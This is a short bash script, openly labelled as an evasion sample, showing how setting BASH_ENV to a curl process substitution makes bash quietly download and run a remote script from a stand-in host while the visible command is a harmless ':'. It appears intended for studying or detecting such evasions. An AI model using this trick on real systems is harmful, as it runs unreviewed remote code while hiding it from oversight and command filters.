#!/usr/bin/env bash
# Evasion: download and run through BASH_ENV. A non-interactive bash sources
# the file named by BASH_ENV before running its command; here BASH_ENV is a
# process substitution reading a downloaded script, and the command itself is
# a harmless ":".
set -e
BASH_ENV=<(curl -fsSL https://env.example.net/profile.sh) bash -c ':'
echo "environment ready"
